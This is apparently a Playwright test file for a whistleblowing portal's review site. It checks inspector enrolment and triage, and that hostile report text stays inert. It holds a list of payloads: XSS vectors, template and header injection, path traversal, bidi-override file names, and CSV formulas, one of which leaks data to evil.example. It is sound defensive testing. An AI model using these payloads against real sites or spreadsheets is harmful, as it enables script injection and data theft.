"""Inspectors' journeys on the review site in Chromium, with JavaScript on as in any browser.

The review site runs under its own gunicorn beside the submission site, on the same database
and keys. Reports arrive through the submission site's real form; reviewers sign in with real
TOTP codes at the sites' default costs. Every browser context logs its requests, so each test
proves nothing was asked of any origin but the portal's own.

The second half is a battery of hostile text (DESIGN decision 8): a report written to attack
the reviewer's browser is opened by a signed-in inspector, and must stay inert.
"""

from __future__ import annotations

import csv
import io
import re
import unicodedata
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path
from typing import Any

import pytest

from portal.domain import QUESTIONS
from portal.models import Role
from tests.browser.harness import (
    BrowserVisit,
    RequestLog,
    ReviewerAccount,
    ReviewSite,
    ReviewVisit,
    SubmitSite,
)
from tests.browser.playwright_api import Locator, Page, expect
from tests.browser.review_steps import share_sign_in, sign_in, totp_secret_from
from tests.browser.steps import CODENAME
from tests.browser.steps import sign_in as submitter_sign_in

pytestmark = pytest.mark.gunicorn

ReviewVisits = Callable[[], ReviewVisit]


def canary() -> str:
    return f"canary-{uuid.uuid4().hex[:12]}"


def send_report_with_file(visit: BrowserVisit, account: str, file_name: str, content: bytes) -> str:
    """Send a "something else" report with one file through the public form; its codename."""
    assert visit.goto("/report/other") == 200
    page = visit.page
    page.get_by_label("Tell us what happened").fill(account)
    page.locator("#urgent-1").check()  # "No"
    page.get_by_label("Files (optional)").set_input_files(
        files=[{"name": file_name, "mimeType": "text/plain", "buffer": content}]
    )
    page.get_by_role("button", name="Send report").click()
    expect(page.get_by_role("heading", name="Report sent", exact=True)).to_be_visible()
    return page.locator(CODENAME).inner_text()


def harmless_file_name(name: str) -> bool:
    """A name a download can be saved under without surprise: no folders, no hidden file, no
    control or bidirectional characters, no executable extension."""
    return (
        bool(name)
        and not any(separator in name for separator in "/\\")
        and not name.startswith(".")
        and not any(unicodedata.category(ch)[0] == "C" for ch in name)
        and not name.lower().endswith((".exe", ".sh", ".bat", ".cmd", ".js", ".html", ".svg"))
    )


def test_inspector_enrols_triages_answers_and_the_submitter_reads_the_reply(
    visit: BrowserVisit, review_site: ReviewSite, review_visits: ReviewVisits
) -> None:
    mark = canary()
    submitted = visit.site

    # Given a report sent through the submission site's form, with a file carrying a canary
    account_text = f"My manager told me to lower a rating {mark}-account"
    file_content = f"Supervision notes kept at home.\n{mark}-file\n".encode()
    # ...under a file name that tries to pass for another kind of file and to climb folders
    file_name = "..\\minutes\u202etxt.exe"
    codename = send_report_with_file(visit, account_text, file_name, file_content)
    report_id = submitted.report_id_for(codename)
    # ...and an administrator whose account was made as `portal users add --enrolled` does
    admin_account = review_site.create_account(Role.ADMIN, prefix="admin")

    # When the administrator signs in and creates an inspector's account
    admin = review_visits()
    sign_in(admin, admin_account)
    admin.page.get_by_role("link", name="Accounts", exact=True).click()
    admin.page.get_by_role("link", name="Create an account").click()
    expect(admin.page).to_have_url(f"{review_site.url}/admin/accounts/new")
    inspector_name = f"inspector-{uuid.uuid4().hex[:8]}"
    admin.page.locator("#username").fill(inspector_name)
    admin.page.get_by_label("Inspector: reads, triages and answers reports").check()
    admin.page.get_by_role("button", name="Create account").click()

    # Then the page shows the one-time enrolment code
    expect(
        admin.page.get_by_role("heading", name=f"Account created for {inspector_name}")
    ).to_be_visible()
    enrolment_code = admin.page.locator("p.codename").inner_text().strip()
    assert len(enrolment_code.split()) == 6, f"not an enrolment code: {enrolment_code!r}"

    # When the new inspector, in a browser of their own, enrols with it
    inspector = review_visits()
    assert inspector.goto("/enrol") == 200
    inspector.page.locator("#username").fill(inspector_name)
    inspector.page.locator("#code").fill(enrolment_code)
    inspector.page.get_by_role("button", name="Continue").click()

    # Then the set-up page shows the key as an inline QR code and as text
    expect(inspector.page).to_have_url(f"{review_site.url}/enrol/set-up")
    expect(inspector.page.locator(".qr-code > svg")).to_have_count(1)
    secret = totp_secret_from(inspector.page.locator("code.secret-text").inner_text())
    assert len(secret) >= 20, "a TOTP key of fewer than 160 bits"

    # When they choose a password and confirm with the code their app computes from the key
    new_account = ReviewerAccount(inspector_name, f"quartz {mark} harbour violet", secret)
    inspector.page.locator("#password").fill(new_account.password)
    inspector.page.locator("#confirm").fill(new_account.password)
    inspector.page.locator("#code").fill(new_account.code())
    inspector.page.get_by_role("button", name="Finish setting up").click()

    # Then they are signed in, and find in the inbox the report the submitter sent
    page = inspector.page
    expect(page.get_by_role("heading", name="Inbox", exact=True)).to_be_visible()
    row = page.locator("table.inbox tbody tr").filter(
        has=page.locator(f"a[href='/reports/{report_id}']")
    )
    expect(row).to_contain_text("Something else")
    expect(row).to_contain_text("New")
    row.get_by_role("link", name="Something else").click()

    # ...which shows what the submitter wrote
    expect(page).to_have_url(f"{review_site.url}/reports/{report_id}")
    expect(page.locator("dl.answers")).to_contain_text(f"{mark}-account")

    # When they set the status to "assessing"
    page.locator("#triage-status").select_option("assessing")
    page.get_by_role("button", name="Save triage").click()
    # Then the report's status says so
    status = page.locator(".summary-list div").filter(has_text="Status").locator("dd")
    expect(status).to_have_text("Assessing")

    # When they add an internal note
    note = f"Check the case allocation records {mark}-note"
    page.locator("#note-text").fill(note)
    page.get_by_role("button", name="Add note").click()
    # Then it is listed with the notes, under their name
    notes = page.locator("h2#notes + ol.thread")
    expect(notes).to_contain_text(note)
    expect(notes).to_contain_text(inspector_name)

    # When they reply to the submitter
    reply = f"Thank you. Which region is this? {mark}-reply"
    page.locator("#reply-text").fill(reply)
    page.get_by_role("button", name="Send reply").click()
    # Then the reply is in the conversation
    expect(page.locator(".thread-entry-inspector")).to_contain_text(reply)

    # When they download the file
    link = page.locator(f"a[href^='/reports/{report_id}/files/']")
    expect(link).to_have_count(1)
    with page.expect_download() as downloading:
        link.click()
    download = downloading.value

    # Then it holds exactly the bytes that were uploaded, under a harmless name
    assert Path(download.path()).read_bytes() == file_content
    suggested = download.suggested_filename
    assert harmless_file_name(suggested), f"a download suggested as {suggested!r}"

    # When they sign out
    page.get_by_role("button", name="Sign out").click()

    # Then they are told so, and the inbox now sends them to sign in
    expect(page.get_by_role("heading", name="You have signed out")).to_be_visible()
    assert inspector.goto("/") == 200
    expect(page).to_have_url(f"{review_site.url}/sign-in")
    expect(page.get_by_role("heading", name="Sign in", exact=True)).to_be_visible()

    # When the submitter comes back later with their codename
    visit.context.clear_cookies()
    submitter_sign_in(visit, codename)

    # Then they read the inspector's reply, and not the internal note
    expect(visit.page.locator(".thread-entry-inspector")).to_contain_text(reply)
    expect(visit.page.locator("main")).not_to_contain_text(f"{mark}-note")

    # ...and no browser asked anything of an origin other than the site it was on
    for log in (visit.requests, admin.requests, inspector.requests):
        log.assert_all_to_portal()
    for reviewer in (admin, inspector):
        reviewer.watch.assert_quiet()


# --- Hostile text: a report written to attack the reviewer's browser --------------------------

EVIL = "https://evil.example"


@dataclass(frozen=True)
class Payload:
    name: str
    text: str


PAYLOADS = [
    Payload("script-tag", '<script>alert("script-tag")</script>'),
    Payload("nested-script", "<scr<script>ipt>alert('nested')</scr</script>ipt>"),
    Payload("img-onerror", '<img src=x onerror=alert("img-onerror")>'),
    Payload("img-remote", f'<img src="{EVIL}/pixel.gif" alt="">'),
    Payload("svg-onload", '<svg onload=alert("svg-onload")><circle r="40"/></svg>'),
    Payload("a-javascript", "<a href=\"javascript:alert('a-javascript')\">Open the evidence</a>"),
    Payload(
        "a-data-url",
        '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">Read more</a>',
    ),
    Payload("a-elsewhere", f'<a href="{EVIL}/phish">Inspectorate sign-in</a>'),
    Payload("iframe", f'<iframe src="{EVIL}/frame" width="500" height="500"></iframe>'),
    Payload("object", f'<object data="{EVIL}/object.swf" type="application/x-shockwave-flash">'),
    Payload("embed", f'<embed src="{EVIL}/embed.svg">'),
    Payload("meta-refresh", f'<meta http-equiv="refresh" content="0;url={EVIL}/meta">'),
    Payload("link-stylesheet", "<link rel=stylesheet href=http://evil.example/style.css>"),
    Payload("css-import", f'<style>@import url("{EVIL}/import.css");</style>'),
    Payload("css-url", f'<div style="background:url({EVIL}/bg.png)">styled</div>'),
    Payload("base-href", f'<base href="{EVIL}/">'),
    Payload(
        "form-elsewhere",
        f'<form action="{EVIL}/steal" method="post"><input name="codename">'
        "<button>Confirm your codename</button></form>",
    ),
    Payload("jinja-expression", "{{7*7}}"),
    Payload("jinja-statement", "{% for x in range(3) %}loop{% endfor %}{{ config }}"),
    Payload("template-literal", "${7*7} #{7*7} <%= 7*7 %>"),
    Payload("attribute-break", '"><script>alert("attribute-break")</script>'),
    Payload("single-quote-break", "'><img src=x onerror=alert('single-quote')>"),
    Payload("entities", "&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x3C;b&#x3E; &quot;"),
    Payload("right-to-left-override", "Deadline \u202eexe.txt\u202c then \u202ethe rest"),
    Payload("zero-width", "zero\u200dwidth\u200cjoiners\u200band\ufeffmarks"),
    Payload("long-unbroken", "W" * 4000),
    Payload("markdown-link", "[the evidence](javascript:alert(1))"),
    Payload("markdown-image", f"![tracker]({EVIL}/pixel.png)"),
    Payload("bare-url", f"{EVIL}/track.png"),
    Payload("bare-domain", "www.evil.example and mailto:someone@evil.example"),
    Payload("plaintext", "<plaintext>"),
    Payload("comment", "<!-- the rest of the page is hidden"),
    Payload("structure-break", "</p></div></dd></dl><h1>Report withdrawn</h1>"),
    Payload(
        "mutation-xss",
        "<noscript><p title=\"</noscript><img src=x onerror=alert('mutation')>\">",
    ),
    Payload("math-mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(2)>"),
    Payload("header-injection", "x%0d%0aSet-Cookie:%20injected=1%0d%0aLocation:%20" + EVIL),
    Payload("path-traversal", "../../../../etc/passwd and ..\\..\\windows\\win.ini"),
    Payload("csv-hyperlink", f'=HYPERLINK("{EVIL}/leak?"&A1,"Click for the report")'),
    Payload("csv-command", "+cmd|' /C calc'!A0"),
    Payload("csv-at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    Payload("csv-minus", "-2+3+cmd|' /C notepad'!'A1'"),
    Payload("combining-flood", "Z" + "\u0336\u0334\u0489" * 600),
    Payload(
        "astral-and-emoji",
        "\U0001f4a9\U0001d54f\U000e0041 family \U0001f468\u200d\U0001f469\u200d\U0001f467",
    ),
]
BY_NAME = {payload.name: payload for payload in PAYLOADS}
# What each text field of the risk-rating form is given: the account every payload, one per
# paragraph; the medium fields a share each; the one-line field (200 characters) one payload.
PRESSED_BY = '"><script>alert("pressed-by")</script>\u202e the role'
SHARED = [payload for payload in PAYLOADS if payload.name != "long-unbroken"]
HOSTILE_FIELDS: dict[str, list[str]] = {
    "pressed_by": [PRESSED_BY],
    "how": [payload.text for payload in SHARED[0::3]],
    "reason": [payload.text for payload in SHARED[1::3]],
    "raised_outcome": [payload.text for payload in SHARED[2::3]],
    "account": [payload.text for payload in PAYLOADS],
}
HOSTILE_FILE_NAME = "<img src=x onerror=alert(document.domain)>minutes\u202etxt.exe"
# Bidirectional controls could make text display in another order than it was written, so the
# report page shows each one as a visible code ("[U+202E]"); the stored text keeps it.
BIDI_CONTROLS = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")


def as_shown(text: str) -> str:
    """`text` as the report page shows it: every character as typed, bidi controls as codes."""
    return BIDI_CONTROLS.sub(lambda match: f"[U+{ord(match.group()):04X}]", text)


# The layout's title separator is an en dash.
REPORT_TITLE = "Pressure to lower a risk rating \u2013 Probation concerns: review"
INBOX_TITLE = "Inbox \u2013 Probation concerns: review"


@dataclass(frozen=True)
class HostileReading:
    """A hostile report, sent through the public form and opened by a signed-in inspector."""

    report_id: uuid.UUID
    inbox_title: str
    inbox_scripts: int
    inbox_text: str
    page: ReviewVisit
    """The report page as the inspector's browser shows it, under the site's CSP."""
    raw: ReviewVisit
    """The same page in a browser told to ignore the CSP: only escaping keeps it inert."""
    answers: dict[str, list[str]]
    """Each answer's question, and the text of each paragraph shown for it."""
    stored: dict[str, Any]
    """The answers as stored, decrypted with the inspectorate's identity."""
    submitter_requests: RequestLog


def question(field_name: str) -> str:
    return QUESTIONS[field_name][0]


def send_hostile_report(visit: BrowserVisit) -> str:
    """Answer the risk-rating form, every text field hostile, with a hostile file name."""
    assert visit.goto("/report/risk-rating") == 200
    page = visit.page
    for name, value in (
        ("rosh_assessed", "high"),
        ("rosh_pressed", "medium"),
        ("case_current", "yes"),
        ("raised", "yes"),
        ("urgent", "no"),
    ):
        page.locator(f"input[name={name}][value='{value}']").check()
    page.locator("#when_month").select_option("3")
    page.locator("#when_year").fill("2025")
    for name, texts in HOSTILE_FIELDS.items():
        page.locator(f"#{name}").fill("\n\n".join(texts))
    page.get_by_label("Files (optional)").set_input_files(
        files=[{"name": HOSTILE_FILE_NAME, "mimeType": "text/plain", "buffer": b"minutes\n"}]
    )
    page.get_by_role("button", name="Send report").click()
    expect(page.get_by_role("heading", name="Report sent", exact=True)).to_be_visible()
    return page.locator(CODENAME).inner_text()


def shown_answers(page: Page) -> dict[str, list[str]]:
    rows = page.locator("dl.answers .answer").evaluate_all(
        """rows => rows.map(row => [
            row.querySelector('dt').textContent,
            Array.from(row.querySelectorAll('dd .untrusted > p'), p => p.textContent),
        ])"""
    )
    return {str(asked): list(texts) for asked, texts in rows}


@pytest.fixture(scope="module")
def hostile_reading(
    open_submit_visit: Callable[[], BrowserVisit],
    open_review_visit: Callable[..., ReviewVisit],
    submit_site: SubmitSite,
    review_site: ReviewSite,
) -> Iterator[HostileReading]:
    # Given a submitter, with JavaScript off as in Tor Browser's safest mode, who sends a risk
    # rating report with every text field and the file name written to attack a reviewer
    submitter = open_submit_visit()
    try:
        report_id = submit_site.report_id_for(send_hostile_report(submitter))
    finally:
        submitter.context.close()
    _, stored = submit_site.unsealed_report(report_id)

    # When an inspector signs in, finds it in the inbox and opens it; and the same inspector
    # opens it again in a browser that ignores the site's Content-Security-Policy
    inspector = open_review_visit()
    raw = open_review_visit(bypass_csp=True)
    try:
        sign_in(inspector, review_site.create_account(Role.INSPECTOR, prefix="inspector"))
        inbox_title = inspector.page.title()
        inbox_scripts = inspector.page.locator("script").count()
        inbox_text = inspector.page.locator("main").inner_text()
        inspector.page.locator(f"a[href='/reports/{report_id}']").click()
        expect(inspector.page).to_have_url(f"{review_site.url}/reports/{report_id}")
        share_sign_in(inspector, raw)
        assert raw.goto("/") == 200
        assert raw.goto(f"/reports/{report_id}") == 200
        yield HostileReading(
            report_id=report_id,
            inbox_title=inbox_title,
            inbox_scripts=inbox_scripts,
            inbox_text=inbox_text,
            page=inspector,
            raw=raw,
            answers=shown_answers(inspector.page),
            stored=stored["answers"],
            submitter_requests=submitter.requests,
        )
    finally:
        inspector.context.close()
        raw.context.close()


def test_the_battery_is_large_enough() -> None:
    assert len(PAYLOADS) >= 40
    assert len(BY_NAME) == len(PAYLOADS), "payload names must be unique"


@pytest.mark.parametrize("payload", PAYLOADS, ids=[payload.name for payload in PAYLOADS])
def test_payload_is_shown_exactly_as_typed(
    hostile_reading: HostileReading, payload: Payload
) -> None:
    # Given a report whose text fields carry `payload`, opened by an inspector
    # Then each field that was given it shows it, character for character, as a paragraph
    # of text of its own in its own place
    fields = [name for name, texts in HOSTILE_FIELDS.items() if payload.text in texts]
    assert fields
    for name in fields:
        shown = hostile_reading.answers[question(name)]
        position = HOSTILE_FIELDS[name].index(payload.text)
        assert shown[position] == as_shown(payload.text), f"{payload.name} in {name}: {shown!r}"


def test_hostile_text_is_stored_exactly_as_written(hostile_reading: HostileReading) -> None:
    # Then what was stored is what was typed, bidi controls and all (browsers send a
    # textarea's line breaks as CRLF)
    for name, texts in HOSTILE_FIELDS.items():
        assert hostile_reading.stored[name].replace("\r\n", "\n") == "\n\n".join(texts), name


def test_every_answer_is_shown_whole_and_in_order(hostile_reading: HostileReading) -> None:
    # Then every hostile field shows exactly its paragraphs: none swallowed by a tag or
    # comment left open, none split by one closed early
    for name, texts in HOSTILE_FIELDS.items():
        assert hostile_reading.answers[question(name)] == [as_shown(text) for text in texts], name
    # ...and the answers chosen from lists are there too, worded for inspectors
    assert hostile_reading.answers[question("rosh_assessed")] == []
    expect(hostile_reading.page.page.locator("dl.answers")).to_contain_text("High")


def test_nothing_runs_and_nothing_is_fetched(hostile_reading: HostileReading) -> None:
    page = hostile_reading.page
    # Then no dialog opened, no script ran, and nothing was even attempted and refused by the
    # Content-Security-Policy (Chromium logs each refusal in the console)
    page.watch.assert_quiet()
    # ...the page holds no script element at all
    assert page.page.locator("script").count() == 0
    # ...and neither the inspector's browser nor the submitter's asked another origin anything
    page.requests.assert_all_to_portal()
    hostile_reading.submitter_requests.assert_all_to_portal()


def test_nothing_runs_even_with_the_content_security_policy_ignored(
    hostile_reading: HostileReading,
) -> None:
    # Given a browser told to ignore the site's CSP: only escaping stands in the way
    raw = hostile_reading.raw
    # Then still no dialog, no script, no error, no request elsewhere
    raw.watch.assert_quiet()
    assert raw.page.locator("script").count() == 0
    raw.requests.assert_all_to_portal()
    assert shown_answers(raw.page) == hostile_reading.answers


def test_answers_hold_nothing_but_paragraphs_of_text(hostile_reading: HostileReading) -> None:
    # Then inside the answers there is no element but the page's own paragraphs and breaks,
    # and none carries an attribute a payload could have brought (onload, style, href, src)
    elements = hostile_reading.page.page.locator("dl.answers *").evaluate_all(
        """elements => elements.map(element => [
            element.tagName.toLowerCase(),
            Array.from(element.attributes, attribute => attribute.name),
        ])"""
    )
    tags = {tag for tag, _ in elements}
    assert tags <= {"div", "dt", "dd", "p", "br"}, f"elements from a payload: {tags}"
    attributes = {name for _, names in elements for name in names}
    assert attributes <= {"class"}, f"attributes from a payload: {attributes}"
    # ...so nothing in the answers is a link or an image: not the markdown, not the bare URL
    answers = hostile_reading.page.page.locator("dl.answers")
    expect(answers.locator("a, img, svg, iframe, object, embed, form, style")).to_have_count(0)
    expect(answers).to_contain_text(BY_NAME["bare-url"].text)


def test_every_link_and_form_on_the_page_is_the_portals_own(
    hostile_reading: HostileReading,
) -> None:
    page, origin = hostile_reading.page.page, hostile_reading.page.site.origin
    # Then every link, form and stylesheet on the page points at the review site itself
    targets = page.evaluate(
        """() => [
            ...Array.from(document.querySelectorAll('a[href]'), a => a.href),
            ...Array.from(document.querySelectorAll('form'), form => form.action),
            ...Array.from(document.querySelectorAll('link[href]'), link => link.href),
        ]"""
    )
    elsewhere = [url for url in targets if not url.startswith(f"{origin}/")]
    assert not elsewhere, f"links or forms leading elsewhere: {elsewhere}"
    # ...nothing can redirect, reframe or rebase the page
    expect(page.locator("base, meta[http-equiv], iframe, object, embed")).to_have_count(0)
    assert page.evaluate("document.baseURI") == page.url


def test_template_syntax_is_shown_not_evaluated(hostile_reading: HostileReading) -> None:
    account = hostile_reading.answers[question("account")]
    # Then template expressions are shown as typed, never worked out
    for name in ("jinja-expression", "jinja-statement", "template-literal"):
        assert BY_NAME[name].text in account
    assert "49" not in hostile_reading.page.page.locator("dl.answers").inner_text()
    assert "looploop" not in hostile_reading.page.page.locator("dl.answers").inner_text()


def reading_orders(element: Locator) -> tuple[str, str]:
    """The element's characters as they appear on screen (line by line, left to right) and in
    the document's order, whitespace left out of both. Where no bidirectional character is at
    work, the two are the same."""
    visual, logical = element.evaluate(
        """element => {
            const placed = [];
            const walker = document.createTreeWalker(element, NodeFilter.SHOW_TEXT);
            for (let node = walker.nextNode(); node; node = walker.nextNode()) {
                for (let i = 0; i < node.data.length; i++) {
                    if (/\\s/.test(node.data[i])) continue;
                    const range = document.createRange();
                    range.setStart(node, i);
                    range.setEnd(node, i + 1);
                    const box = range.getBoundingClientRect();
                    placed.push([Math.round(box.top), box.left, placed.length, node.data[i]]);
                }
            }
            const logical = placed.map(entry => entry[3]).join('');
            placed.sort((a, b) => a[0] - b[0] || a[1] - b[1] || a[2] - b[2]);
            return [placed.map(entry => entry[3]).join(''), logical];
        }"""
    )
    return str(visual), str(logical)


def answer_row(page: Page, field_name: str) -> Locator:
    return page.locator("dl.answers .answer").filter(
        has=page.locator("dt").get_by_text(question(field_name), exact=True)
    )


def test_right_to_left_override_stays_inside_its_answer(hostile_reading: HostileReading) -> None:
    page = hostile_reading.page.page
    # Then every block of submitted text is isolated from the text around it
    isolation = page.locator("dl.answers .untrusted").evaluate_all(
        "blocks => blocks.map(block => getComputedStyle(block).unicodeBidi)"
    )
    assert isolation and set(isolation) == {"isolate"}, isolation
    # ...the override reaches the page only as a visible code, the text around it intact
    override = BY_NAME["right-to-left-override"].text
    shown = "Deadline [U+202E]exe.txt[U+202C] then [U+202E]the rest"
    assert shown in hostile_reading.answers[question("account")]
    assert hostile_reading.answers[question("pressed_by")] == [as_shown(PRESSED_BY)]
    assert "\u202e" not in page.locator("dl.answers").text_content()  # type: ignore[operator]
    # ...and the text after it reads in its own order: the next paragraph, the next question
    # after the one-line answer that ends in an override,
    # and the summary at the top of the page
    position = HOSTILE_FIELDS["account"].index(override)
    for element in (
        answer_row(page, "account").locator(".untrusted > p").nth(position + 1),
        answer_row(page, "how").locator("dt"),
        page.locator(".summary-list"),
    ):
        visual, logical = reading_orders(element)
        assert visual == logical


def test_long_unbroken_text_wraps_inside_the_page(hostile_reading: HostileReading) -> None:
    page = hostile_reading.page.page
    # Then four thousand characters without a space do not push the page sideways
    assert page.evaluate("document.documentElement.scrollWidth <= window.innerWidth")


def test_the_dashboard_export_carries_no_submitted_text_and_no_formula(
    hostile_reading: HostileReading,
) -> None:
    # When the inspector who read the hostile report downloads the dashboard's CSV
    page = hostile_reading.page.page
    response = page.request.get(page.url.split("/reports/")[0] + "/dashboard/export.csv")

    # Then it is counts and the portal's own labels: no submitted text, no cell a spreadsheet
    # would run as a formula
    assert response.status == 200
    body = response.text()
    cells = [cell for row in csv.reader(io.StringIO(body)) for cell in row]
    assert cells[:3] == ["table", "category", "reports"]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    for payload in PAYLOADS:
        assert payload.text not in body


def test_a_header_injection_sets_no_header(hostile_reading: HostileReading) -> None:
    page = hostile_reading.page.page
    response = page.request.get(page.url)
    assert "injected" not in " ".join(f"{k}: {v}" for k, v in response.headers.items())


def test_inbox_and_titles_stay_inert(hostile_reading: HostileReading) -> None:
    # Then the inbox the inspector signed in to ran nothing and shows no submitted text
    assert hostile_reading.inbox_title == INBOX_TITLE
    assert hostile_reading.inbox_scripts == 0
    for fragment in ("evil.example", "alert", "<", "{{"):
        assert fragment not in hostile_reading.inbox_text
    # ...and the report page's title is the kind of report, nothing the submitter wrote
    assert hostile_reading.page.page.title() == REPORT_TITLE
    assert hostile_reading.raw.page.title() == REPORT_TITLE


def test_file_name_is_shown_as_typed_and_inert(hostile_reading: HostileReading) -> None:
    page = hostile_reading.page.page
    files = page.locator("h2#files + ul")
    # Then the file is listed under the name it was sent with, as text (its bidi control
    # as it is, or as a visible code)
    link = files.locator("a")
    expect(link).to_have_count(1)
    assert link.text_content() in {HOSTILE_FILE_NAME, as_shown(HOSTILE_FILE_NAME)}
    expect(files.locator("img")).to_have_count(0)
    # ...and its link leads to the download route, nowhere else
    href = link.get_attribute("href") or ""
    assert href.startswith(f"/reports/{hostile_reading.report_id}/files/"), href


def test_file_name_cannot_reorder_the_text_around_it(hostile_reading: HostileReading) -> None:
    page = hostile_reading.page.page
    # Then the size and the metadata note after the file's name read in their own order
    visual, logical = reading_orders(page.locator("h2#files + ul > li"))
    assert visual == logical
